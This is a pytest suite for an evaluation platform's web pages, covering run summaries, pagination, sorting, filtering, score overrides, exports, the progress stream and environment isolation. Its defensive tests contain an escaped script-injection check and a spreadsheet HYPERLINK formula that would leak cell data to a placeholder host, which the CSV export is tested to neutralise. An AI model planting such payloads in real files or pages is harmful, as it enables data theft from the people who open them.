"""The run page, the result detail, the exports and the progress stream, on SQLite and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import html
import io
import json
import re
import uuid
from typing import Any

import httpx
import pytest

from assay.domain.stats import mean_interval_from_moments
from assay.storage import runs as run_store
from assay.storage.run_execution import record_finish
from assay.storage.types import utcnow
from tests.conftest import Env, add_key
from tests.web.conftest import sign_in
from tests.web.run_data import HOSTILE, SeededRun, seed_run

RESULT_LINK = re.compile(r'href="/runs/[0-9a-f-]+/results/([0-9a-f-]+)[?"]')
NEXT_LINK = re.compile(r'rel="next" href="([^"]+)"')
PREV_LINK = re.compile(r'rel="prev" href="([^"]+)"')


async def seeded(app: Any, env: Env, n: int = 120, **kwargs: Any) -> SeededRun:
    return await seed_run(app.state.sessionmaker, uuid.UUID(env.id), n, **kwargs)


async def api_results(client: httpx.AsyncClient, env: Env, run: SeededRun) -> list[dict[str, Any]]:
    answer = await client.get(
        f"/v1/evaluations/{run.suite_id}/results", params={"task_id": str(run.run_id)}, headers=env.headers
    )
    assert answer.status_code == 200, answer.text
    return answer.json()


async def api_cases(client: httpx.AsyncClient, env: Env, run: SeededRun) -> dict[str, dict[str, Any]]:
    answer = await client.get(f"/v1/evaluations/{run.suite_id}/test-cases", headers=env.headers)
    assert answer.status_code == 200, answer.text
    return {c["id"]: c for c in answer.json()}


def page_ids(text: str) -> list[str]:
    return list(dict.fromkeys(RESULT_LINK.findall(text)))


async def all_ids(client: httpx.AsyncClient, run: SeededRun, params: dict[str, str]) -> list[str]:
    """Every result id the table shows for these parameters, following the Next links to the end."""
    answer = await client.get(f"/runs/{run.run_id}", params=params)
    assert answer.status_code == 200, answer.text
    ids = page_ids(answer.text)
    while found := NEXT_LINK.search(answer.text):
        answer = await client.get(f"/runs/{run.run_id}" + html.unescape(found.group(1)))
        assert answer.status_code == 200, answer.text
        ids += page_ids(answer.text)
    return ids


async def test_run_page_shows_summary_charts_and_the_first_page(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    task = (await client.get(f"/v1/tasks/{run.run_id}", headers=env_a.headers)).json()
    summary = task["summary"]
    page = await client.get(f"/runs/{run.run_id}")
    assert page.status_code == 200
    text = page.text
    assert f"{summary['pass_rate'] * 100:.1f} %" in text
    assert f"{summary['mean_score']:.1f}" in text and "95 % CI" in text
    assert 'class="chart score-chart"' in text and "latency-chart" in text and "tag-chart" in text
    assert "Pass rate by tag" in text and "vip" in text
    assert ">4</div>" in text and "requested 8" in text  # effective concurrency, capped by the instance
    assert len(page_ids(text)) == 50
    assert NEXT_LINK.search(text) and not PREV_LINK.search(text)
    assert "data-events-url" not in text  # finished: no live stream
    assert f'<div class="value has-errors">{summary["error"]}</div>' in text


async def test_pages_cover_every_result_once_and_go_back(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    expected = [r["id"] for r in await api_results(client, env_a, run)]
    first = await client.get(f"/runs/{run.run_id}")
    second = await client.get(f"/runs/{run.run_id}" + html.unescape(NEXT_LINK.search(first.text).group(1)))
    third = await client.get(f"/runs/{run.run_id}" + html.unescape(NEXT_LINK.search(second.text).group(1)))
    pages = [page_ids(p.text) for p in (first, second, third)]
    assert [len(p) for p in pages] == [50, 50, 20]
    assert sum(pages, []) == expected  # default order: the results' order, as the API lists them
    assert not NEXT_LINK.search(third.text)
    back = await client.get(f"/runs/{run.run_id}" + html.unescape(PREV_LINK.search(third.text).group(1)))
    assert page_ids(back.text) == pages[1]
    assert "120 results" in first.text


def _sort_value(key: str, result: dict[str, Any], case: dict[str, Any] | None) -> Any:
    return {
        "score": result["score"],
        "latency": result["latency_ms"],
        "tokens": result["tokens_used"],
        "judge_tokens": result["judge_tokens"],
        "repetition": result["repetition"],
        "status": result["status"],
        "input": case["input_message"] if case else None,
        "tags": None,
        "response": result["agent_response"],
        "reason": result["score_reason"],
    }[key]


@pytest.mark.parametrize(
    "key", ["score", "latency", "tokens", "judge_tokens", "status", "input", "tags", "response", "reason"]
)
async def test_every_column_sorts_both_ways(client, app, env_a: Env, key: str, database_url: str) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 75)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    results = await api_results(client, env_a, run)
    cases = await api_cases(client, env_a, run)
    ascending = await all_ids(client, run, {"sort": key})
    descending = await all_ids(client, run, {"sort": f"-{key}"})
    assert sorted(ascending) == sorted(descending) == sorted(r["id"] for r in results)
    by_id = {r["id"]: r for r in results}
    values = {i: _sort_value(key, by_id[i], cases.get(by_id[i]["test_case_id"])) for i in by_id}
    if key == "tags":
        values = {i: json.dumps(cases[by_id[i]["test_case_id"]]["tags"]) for i in by_id}
    nulls = [i for i in ascending if values[i] is None]
    assert ascending[len(ascending) - len(nulls) :] == nulls  # nulls last, both ways
    present = ascending[: len(ascending) - len(nulls)]
    assert descending == list(reversed(present)) + list(reversed(nulls))
    text_sort = key in ("status", "input", "tags", "response", "reason")
    if not text_sort or "sqlite" in database_url:  # PostgreSQL orders text by its collation, not code points
        order = sorted(present, key=lambda i: (values[i].replace(" ", "") if key == "tags" else values[i], i))
        assert present == order


async def test_filters_answer_what_they_ask(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    results = await api_results(client, env_a, run)
    cases = await api_cases(client, env_a, run)

    def ids(keep: Any) -> list[str]:
        return [r["id"] for r in results if keep(r, cases[r["test_case_id"]])]

    def verdict_of(r: dict[str, Any], name: str) -> str | None:
        return next((v["status"] for v in r["evaluator_results"] if v["evaluator"] == name), None)

    checks = [
        ({"status": "failed"}, ids(lambda r, c: r["status"] == "failed")),
        ({"status": "error"}, ids(lambda r, c: r["status"] == "error")),
        ({"tag": "vip"}, ids(lambda r, c: "vip" in c["tags"])),
        ({"tag": "refunds", "status": "passed"}, ids(lambda r, c: "refunds" in c["tags"] and r["status"] == "passed")),
        (
            {"score_min": "20", "score_max": "60.5"},
            ids(lambda r, c: r["score"] is not None and 20 <= r["score"] <= 60.5),
        ),
        ({"evaluator": "judge", "verdict": "failed"}, ids(lambda r, c: verdict_of(r, "judge") == "failed")),
        ({"evaluator": "tool_calls", "verdict": "passed"}, ids(lambda r, c: verdict_of(r, "tool_calls") == "passed")),
        ({"evaluator": "tool_calls"}, ids(lambda r, c: verdict_of(r, "tool_calls") is not None)),
        ({"q": "ORDER 7"}, ids(lambda r, c: "order 7" in c["input_message"].lower())),
        ({"q": "not fine"}, ids(lambda r, c: "not fine" in (r["score_reason"] or ""))),
        ({"q": "<b>bold"}, ids(lambda r, c: "<b>bold" in (r["agent_response"] or ""))),
        ({"q": "100%"}, []),  # % is a character, not a wildcard
        ({"status": "", "tag": "", "q": ""}, [r["id"] for r in results]),  # empty fields: no filter
    ]
    for params, expected in checks:
        assert expected or params == {"q": "100%"}, params
        assert await all_ids(client, run, params) == expected, params
    page = await client.get(f"/runs/{run.run_id}", params={"status": "failed"})
    assert f"{len(checks[0][1])} results match the filters" in page.text
    searched = await client.get(f"/runs/{run.run_id}", params={"q": "ORDER 7"})  # counted in the page's own scan
    assert f"{len(checks[8][1])} results match the filters" in searched.text
    assert len(checks[8][1]) > 1


@pytest.mark.parametrize(
    "params",
    [
        {"status": "bogus"},
        {"verdict": "maybe", "evaluator": "judge"},
        {"verdict": "passed"},
        {"score_min": "abc"},
        {"score_max": "101"},
        {"score_min": "nan"},
        {"sort": "password"},
        {"cursor": "not-a-cursor"},
        {"q": "x" * 501},
    ],
)
async def test_bad_table_parameters_are_refused_with_a_page(client, app, env_a: Env, params: dict) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 3)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    answer = await client.get(f"/runs/{run.run_id}", params=params)
    assert answer.status_code == 422 and "Invalid input" in answer.text


async def test_a_cursor_of_another_sort_is_refused(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 60)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    first = await client.get(f"/runs/{run.run_id}", params={"sort": "-score"})
    cursor = re.search(r"cursor=([^&\"]+)", html.unescape(NEXT_LINK.search(first.text).group(1))).group(1)
    answer = await client.get(f"/runs/{run.run_id}", params={"sort": "latency", "cursor": cursor})
    assert answer.status_code == 422


async def test_result_detail_shows_everything_about_one_result(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 10)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    results = await api_results(client, env_a, run)
    zero = next(r for r in results if r["test_case_id"] == str(run.case_ids[0]))
    page = await client.get(f"/runs/{run.run_id}/results/{zero['id']}")
    assert page.status_code == 200
    text = page.text
    assert "question 00000: where is order 0?" in text and "response 00000 about order 0" in text
    assert "The judge reasons about case 0 at length." in text  # the judge's full reasoning
    assert "lookup_order" in text and "differs: order_id" in text  # expected order 0, made order 1
    assert f"{zero['latency_ms']} ms" in text and f"{zero['tokens_used']} agent" in text
    assert "Nobody has changed this score." in text
    assert f'href="/runs/{run.run_id}/review"' in text
    assert 'rel="next"' in text and 'rel="prev"' not in text  # the first result of the default order
    next_id = re.search(r'rel="next" href="/runs/[0-9a-f-]+/results/([0-9a-f-]+)', text).group(1)
    assert next_id == results[1]["id"]

    error = next(r for r in results if r["status"] == "error")
    page = await client.get(f"/runs/{run.run_id}/results/{error['id']}")
    assert "the agent timed out" in page.text and "No evaluator gave a verdict" in page.text


async def test_detail_neighbours_follow_the_table_order(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 30)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    params = {"status": "passed", "sort": "-score"}
    ordered = await all_ids(client, run, params)
    middle = await client.get(f"/runs/{run.run_id}/results/{ordered[1]}", params=params)
    assert re.search(rf'rel="prev" href="/runs/{run.run_id}/results/{ordered[0]}\?', middle.text)
    assert re.search(rf'rel="next" href="/runs/{run.run_id}/results/{ordered[2]}\?', middle.text)
    last = await client.get(f"/runs/{run.run_id}/results/{ordered[-1]}", params=params)
    assert 'rel="next"' not in last.text


async def test_override_from_the_detail_keeps_its_history(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 10)
    token = await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    result = (await api_results(client, env_a, run))[2]
    page = await client.get(f"/runs/{run.run_id}/results/{result['id']}")
    assert 'id="override-form"' in page.text
    answer = await client.post(
        f"/runs/{run.run_id}/results/{result['id']}/override",
        data={"score": "88", "reason": "read it myself <i>", "csrf_token": token, "back": "status=failed"},
    )
    assert answer.status_code == 303
    assert answer.headers["location"] == f"/runs/{run.run_id}/results/{result['id']}?status=failed&saved=1"
    after = next(r for r in await api_results(client, env_a, run) if r["id"] == result["id"])
    assert after["score"] == 88 and after["status"] == "passed" and after["original_score"] == result["score"]
    assert after["overrides"][0]["by"] == env_a.key_id
    page = await client.get(answer.headers["location"])
    assert "Score saved." in page.text and "read it myself &lt;i&gt;" in page.text
    assert f"{result['score']:.1f} → 88.0" in page.text and env_a.key_id in page.text
    for bad in ("101", "x", ""):
        refused = await client.post(
            f"/runs/{run.run_id}/results/{result['id']}/override", data={"score": bad, "csrf_token": token}
        )
        assert refused.status_code == 422
    no_token = await client.post(f"/runs/{run.run_id}/results/{result['id']}/override", data={"score": "5"})
    assert no_token.status_code == 403


async def test_read_only_key_sees_no_override_controls_and_cannot_override(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 5)
    reader = await add_key(app, env_a, ["evaluation:read"])
    token = await sign_in(client, reader, next_url=f"/runs/{run.run_id}")
    result = (await api_results(client, env_a, run))[0]
    page = await client.get(f"/runs/{run.run_id}/results/{result['id']}")
    assert page.status_code == 200
    assert "override-form" not in page.text and "Save score" not in page.text and "/override" not in page.text
    refused = await client.post(
        f"/runs/{run.run_id}/results/{result['id']}/override", data={"score": "50", "csrf_token": token}
    )
    assert refused.status_code == 403
    unchanged = (await api_results(client, env_a, run))[0]
    assert unchanged["score"] == result["score"] and unchanged["overrides"] == []


async def test_html_in_responses_and_reasons_is_shown_as_text(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 5)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    table = await client.get(f"/runs/{run.run_id}")
    hostile = next(r for r in await api_results(client, env_a, run) if r["agent_response"] == HOSTILE)
    detail = await client.get(f"/runs/{run.run_id}/results/{hostile['id']}")
    for page in (table, detail):
        assert "<script>alert" not in page.text and "<b>bold" not in page.text
        assert "&lt;script&gt;alert(" in page.text
    assert "<script>x()" not in detail.text and "&lt;script&gt;x()" in detail.text


async def test_exports_equal_the_api_results(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 620)  # more than one export batch
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    await client.patch(
        f"/v1/evaluations/{run.suite_id}/results/{(await api_results(client, env_a, run))[3]['id']}",
        json={"score": 12.5, "score_reason": "checked"},
        headers=env_a.headers,
    )
    results = await api_results(client, env_a, run)
    cases = await api_cases(client, env_a, run)
    jsonl = await client.get(f"/runs/{run.run_id}/export.jsonl")
    assert jsonl.status_code == 200 and jsonl.headers["content-type"].startswith("application/x-ndjson")
    assert "attachment" in jsonl.headers["content-disposition"]
    records = [json.loads(line) for line in jsonl.text.splitlines()]
    assert len(records) == len(results) == 620
    for record, result in zip(records, results, strict=True):
        case = cases[result["test_case_id"]]
        assert record == {**result, "input_message": case["input_message"], "tags": case["tags"]}
    assert any(r["overrides"] for r in records)

    exported = await client.get(f"/runs/{run.run_id}/export.csv")
    assert exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [r["id"] for r in rows] == [r["id"] for r in results]
    hostile = next(r for r in rows if r["agent_response"] == HOSTILE)
    assert hostile["input_message"] == HOSTILE
    first = rows[0]
    assert json.loads(first["evaluator_results"]) == results[0]["evaluator_results"]
    assert first["tags"] == ";".join(cases[results[0]["test_case_id"]]["tags"])

    failed = await client.get(f"/runs/{run.run_id}/export.jsonl", params={"status": "failed", "tag": "vip"})
    wanted = [r["id"] for r in results if r["status"] == "failed" and "vip" in cases[r["test_case_id"]]["tags"]]
    assert [json.loads(line)["id"] for line in failed.text.splitlines()] == wanted
    page = await client.get(f"/runs/{run.run_id}", params={"status": "failed", "tag": "vip", "sort": "-score"})
    assert f'href="/runs/{run.run_id}/export.csv?status=failed&amp;tag=vip"' in page.text


def parse_events(body: str) -> list[tuple[str, dict[str, Any]]]:
    events = []
    for block in body.strip().split("\n\n"):
        fields = dict(line.split(": ", 1) for line in block.splitlines() if ": " in line and not line.startswith(":"))
        if "event" in fields:
            events.append((fields["event"], json.loads(fields["data"])))
    return events


async def test_progress_stream_follows_the_run_and_ends_with_it(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 20, status="running", stored=8)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    page = await client.get(f"/runs/{run.run_id}")
    assert f'data-events-url="/runs/{run.run_id}/events"' in page.text
    assert '<progress id="run-progress" value="8" max="20">' in page.text and "Refresh" in page.text

    stream = asyncio.create_task(client.get(f"/runs/{run.run_id}/events"))
    await asyncio.sleep(1.2)
    assert not stream.done()
    async with app.state.sessionmaker() as session:
        row = await run_store.get_run(session=session, environment_id=uuid.UUID(env_a.id), run_id=run.run_id)
        summary = {"total": 20, "completed": 8, "error": 1}
        await record_finish(session=session, row=row, status="completed", finished_at=utcnow(), summary=summary)
        await session.commit()
    answer = await asyncio.wait_for(stream, 10)
    assert answer.status_code == 200 and answer.headers["content-type"].startswith("text/event-stream")
    assert answer.text.startswith("retry: ")
    events = parse_events(answer.text)
    assert events[0] == ("progress", {"status": "running", "completed": 8, "errors": 1, "total": 20})
    assert events[-2] == ("progress", {"status": "completed", "completed": 8, "errors": 1, "total": 20})
    assert events[-1] == ("end", {"status": "completed", "completed": 8, "errors": 1, "total": 20})
    assert [name for name, _ in events].count("end") == 1

    finished = await asyncio.wait_for(client.get(f"/runs/{run.run_id}/events"), 5)
    assert [name for name, _ in parse_events(finished.text)] == ["progress", "end"]
    page = await client.get(f"/runs/{run.run_id}")
    assert "data-events-url" not in page.text


async def test_another_environments_run_is_not_found(client, app, env_a: Env, env_b: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 3)
    result = (await api_results(client, env_a, run))[0]
    await sign_in(client, env_b.key)
    for path in (
        f"/runs/{run.run_id}",
        f"/runs/{run.run_id}/results/{result['id']}",
        f"/runs/{run.run_id}/export.csv",
        f"/runs/{run.run_id}/export.jsonl",
        f"/runs/{run.run_id}/events",
        f"/runs/{uuid.uuid4()}",
    ):
        answer = await client.get(path)
        assert answer.status_code == 404, path
        assert "Not found" in answer.text and "question" not in answer.text
    api = await client.get(f"/v1/tasks/{run.run_id}", headers=env_b.headers)
    assert api.status_code == 404


async def test_a_result_of_another_run_is_not_found_under_this_run(client, app, env_a: Env) -> None:  # noqa: ANN001
    one = await seeded(app, env_a, 3)
    other = await seeded(app, env_a, 3)
    foreign = (await api_results(client, env_a, other))[0]
    await sign_in(client, env_a.key, next_url=f"/runs/{one.run_id}")
    answer = await client.get(f"/runs/{one.run_id}/results/{foreign['id']}")
    assert answer.status_code == 404


async def test_pages_need_a_session(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 3)
    answer = await client.get(f"/runs/{run.run_id}")
    assert answer.status_code == 303 and answer.headers["location"].startswith("/login?next=")
    events = await client.get(f"/runs/{run.run_id}/events", headers={"accept": "text/event-stream"})
    assert events.status_code == 401


async def test_a_queued_run_without_results_renders(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 5, status="queued", stored=0)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    page = await client.get(f"/runs/{run.run_id}")
    assert page.status_code == 200
    assert "No results yet." in page.text and '<progress id="run-progress" value="0" max="5">' in page.text
    assert "no tagged results" in page.text and "0 results" in page.text
    empty = await client.get(f"/runs/{run.run_id}/export.csv")
    assert empty.status_code == 200 and len(empty.text.strip().splitlines()) == 1  # the header only


async def test_a_deleted_case_still_reads_as_run(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 4)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    gone = run.case_ids[2]
    answer = await client.delete(f"/v1/evaluations/{run.suite_id}/test-cases/{gone}", headers=env_a.headers)
    assert answer.status_code in (200, 204), answer.text
    table = await client.get(f"/runs/{run.run_id}")
    assert "(case deleted)" in table.text and "question 00002" not in table.text
    result = next(r for r in await api_results(client, env_a, run) if r["test_case_id"] == str(gone))
    detail = await client.get(f"/runs/{run.run_id}/results/{result['id']}")
    assert detail.status_code == 200 and "question 00002: where is order 2?" in detail.text  # the run's copy


CI_TEXT = re.compile(r"95 % CI ([0-9.]+) – ([0-9.]+)")


async def test_charts_of_a_finished_run_follow_overrides(client, app, env_a: Env) -> None:  # noqa: ANN001
    """The finished run's aggregates are cached; an override (a new summary version) makes the page read anew."""
    run = await seeded(app, env_a, 12)
    token = await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    before = CI_TEXT.search((await client.get(f"/runs/{run.run_id}")).text)
    assert before is not None
    assert CI_TEXT.search((await client.get(f"/runs/{run.run_id}?sort=-score")).text).groups() == before.groups()
    for result in await api_results(client, env_a, run):
        if result["status"] == "failed":
            answer = await client.post(
                f"/runs/{run.run_id}/results/{result['id']}/override",
                data={"score": "100", "reason": "fine", "csrf_token": token},
            )
            assert answer.status_code == 303
    after_page = (await client.get(f"/runs/{run.run_id}")).text
    after = CI_TEXT.search(after_page)
    assert after is not None and float(after.group(2)) > float(before.group(2))
    scores = [r["score"] for r in await api_results(client, env_a, run) if r["score"] is not None]
    low, high = mean_interval_from_moments(
        len(scores), sum(scores), sum(s * s for s in scores), bounds=(0.0, 100.0)
    ) or (None, None)
    assert after.groups() == (f"{low:.1f}", f"{high:.1f}")


async def test_a_searchs_count_follows_an_override_of_a_finished_run(client, app, env_a: Env) -> None:  # noqa: ANN001
    """Counts of a finished run are cached too, and an override's new reason is searched at once."""
    run = await seeded(app, env_a, 12)
    token = await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    count = re.compile(r'id="result-count">(\d+) result')
    failed = [r for r in await api_results(client, env_a, run) if "not fine" in (r["score_reason"] or "")]
    before = count.search((await client.get(f"/runs/{run.run_id}?q=NOT+FINE")).text)
    assert before is not None and int(before.group(1)) == len(failed) > 1
    assert count.search((await client.get(f"/runs/{run.run_id}?q=not+fine")).text).group(1) == before.group(1)
    answer = await client.post(
        f"/runs/{run.run_id}/results/{failed[0]['id']}/override",
        data={"score": "90", "reason": "looked again: all good", "csrf_token": token},
    )
    assert answer.status_code == 303
    after = count.search((await client.get(f"/runs/{run.run_id}?q=not+fine")).text)
    assert after is not None and int(after.group(1)) == len(failed) - 1
    assert "1 result" in (await client.get(f"/runs/{run.run_id}?q=ALL+GOOD")).text


async def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(client, app, env_a: Env) -> None:  # noqa: ANN001
    run = await seeded(app, env_a, 4)
    await sign_in(client, env_a.key, next_url=f"/runs/{run.run_id}")
    first = (await api_results(client, env_a, run))[0]
    formula = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    patched = await client.patch(
        f"/v1/evaluations/{run.suite_id}/results/{first['id']}",
        json={"score": 50, "score_reason": formula},
        headers=env_a.headers,
    )
    assert patched.status_code == 200, patched.text
    rows = list(csv.DictReader(io.StringIO((await client.get(f"/runs/{run.run_id}/export.csv")).text)))
    assert next(r for r in rows if r["id"] == first["id"])["score_reason"] == "'" + formula
    assert all(not r["score_reason"].startswith(("=", "+", "-", "@")) for r in rows)
    records = [json.loads(line) for line in (await client.get(f"/runs/{run.run_id}/export.jsonl")).text.splitlines()]
    assert next(r for r in records if r["id"] == first["id"])["score_reason"] == formula
